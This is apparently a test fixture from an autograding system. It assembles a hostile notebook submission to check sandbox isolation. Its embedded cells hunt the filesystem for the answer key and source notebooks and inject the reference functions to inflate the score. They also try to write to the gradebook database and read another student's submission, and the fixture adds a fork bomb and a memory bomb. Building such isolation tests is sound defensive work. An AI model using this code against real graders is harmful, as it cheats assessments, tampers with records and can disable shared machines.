"""A hostile submission for the isolation tests, built at test time from the release.

``intruder`` is the release (stubs) with cells that do everything a sandbox must stop:

* the answer-key thief: it imports ``solutions/<assignment>/reference.py`` from the
  course folder (a path it knows, ``COURSE_ROOT``, or a folder above its own),
  walks the file system for it and for source notebooks (template caches, other
  checkouts), and, when it finds one, puts the reference's functions back into
  the notebook after every cell;
* the ``course doctor`` probe: the answer key, the hidden tests, the source, the
  gradebook (read, and open for writing), the internet, a port of the grader's
  machine, ``/home`` and the instructor's home;
* a sqlite write into the gradebook, and reading a notebook of the submissions folder;
* a fork bomb followed by a memory bomb in ``multi_layer_network`` (placed as in
  ``grading_recipes``), and a cell after its test that says how many processes it sees.

It is graded with ``--stop-after test_classify`` (no training: seconds, not
minutes). Isolated, it scores what the stub scores, 0; with the answer key it
scores 92 (everything but ``test_training``).
"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat

import grading_recipes as recipes
from course_lib.doctor import probe_code
from course_lib.grading.submissions import fill

STOP_AFTER = "test_classify"

THIEF = r'''
# Not my code: the answer key's, wherever it can be found.
import importlib.util, json, os, time
found, stolen = [], {}
_start = time.monotonic()
def _take_module(path):
    spec = importlib.util.spec_from_file_location("_stolen_reference", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    stolen.update({k: v for k, v in vars(module).items() if callable(v) and not k.startswith("_")})
def _take_notebook(path):
    for cell in json.load(open(path))["cells"]:
        src = "".join(cell["source"])
        if cell["cell_type"] == "code" and src.lstrip().startswith("def ") and "NotImplementedError" not in src:
            space = {"np": __import__("numpy")}
            exec(src, space)
            stolen.update({k: v for k, v in space.items() if callable(v) and k != "np"})
def _try(what, fn):
    try:
        fn()
        found.append(what)
    except BaseException:  # noqa
        pass
KEY = os.path.join("solutions", "@ASSIGNMENT@", "reference.py")
for root in [@ROOT@, os.environ.get("COURSE_ROOT", "")] + [os.path.abspath("../" * i) for i in range(1, 8)]:
    if root and os.path.isfile(os.path.join(root, KEY)):
        _try("import " + os.path.join(root, KEY), lambda: _take_module(os.path.join(root, KEY)))
SKIP = {".git", ".venv", "site-packages", "__pycache__", "node_modules", "proc", "sys", "dev", "usr"}
for top, dirs, files in os.walk("/"):
    if found or time.monotonic() - _start > 20:
        break
    dirs[:] = [d for d in dirs if d not in SKIP]
    if "reference.py" in files and top.endswith(os.path.dirname(KEY)):
        _try("walk " + top, lambda: _take_module(os.path.join(top, "reference.py")))
    for name in files:
        if name.endswith(".ipynb") and ("source" in top.split(os.sep) or "template" in top):
            _try("walk " + os.path.join(top, name), lambda: _take_notebook(os.path.join(top, name)))
def _plant(*args, **kwargs):
    get_ipython().user_ns.update(stolen)
if stolen:
    get_ipython().events.register("post_run_cell", _plant)
print("THIEF found:", found)
'''

EXTRA = r'''
# More attempts: write the gradebook, read the submissions folder.
import json as _json, os as _os, sqlite3 as _sqlite3
_extra = {}
def _attempt(name, fn):
    try:
        _extra[name] = ["OPEN", repr(fn())[:80]]
    except BaseException as exc:  # noqa
        _extra[name] = ["BLOCKED", type(exc).__name__]
def _write_gradebook():
    with _sqlite3.connect("file:" + _os.path.abspath("../../../gradebook.db") + "?mode=rw", uri=True) as db:
        db.execute("create table stolen_points (x)")
_attempt("gradebook_sqlite_write", _write_gradebook)
_attempt("submissions_folder", lambda: open(@OTHER@).read(16))
print("EXTRA", _json.dumps(_extra))
'''

ALIVE = r'''
import os as _os
print("ALIVE", len([p for p in _os.listdir("/proc") if p.isdigit()]))
'''


def _insert_after(nb, grade_id: str, sources: list):
    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id) + 1
    for offset, src in enumerate(sources):
        nb.cells.insert(at + offset, nbformat.v4.new_code_cell(src))
    return nb


def build(root: Path, dest: Path, probe_paths: dict) -> Path:
    """Write ``dest/intruder.ipynb`` and return its path.

    ``probe_paths``: the doctor probe's paths (answer_key, hidden_tests, source, home, port).
    """
    release, source = recipes.notebooks(root)
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / "intruder.ipynb"
    bombs = recipes.network_cell(body=recipes.FORK_BOMB + "\n" + recipes.ALLOC_50GB)
    nb = _insert_after(fill(release, source, bombs, reference=False), "setup_imports", [
        THIEF.replace("@ROOT@", repr(str(Path(root).resolve()))).replace("@ASSIGNMENT@", recipes.ASSIGNMENT),
        probe_code(probe_paths),
        EXTRA.replace("@OTHER@", repr(str(path)))])
    nb = _insert_after(nb, "test_multi_layer_network", [ALIVE])
    nbformat.write(nb, path)
    return path


def outputs(notebook: Path) -> str:
    """Every stream and error output of a graded notebook, as text."""
    nb = nbformat.read(notebook, 4)
    parts = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            parts.append(out.get("text", "") or f"{out.get('ename', '')}: {out.get('evalue', '')}")
    return "\n".join(parts)


def after(text: str, marker: str):
    """The JSON a cell printed after ``marker``."""
    return json.loads(text.split(marker, 1)[1].strip().splitlines()[0])
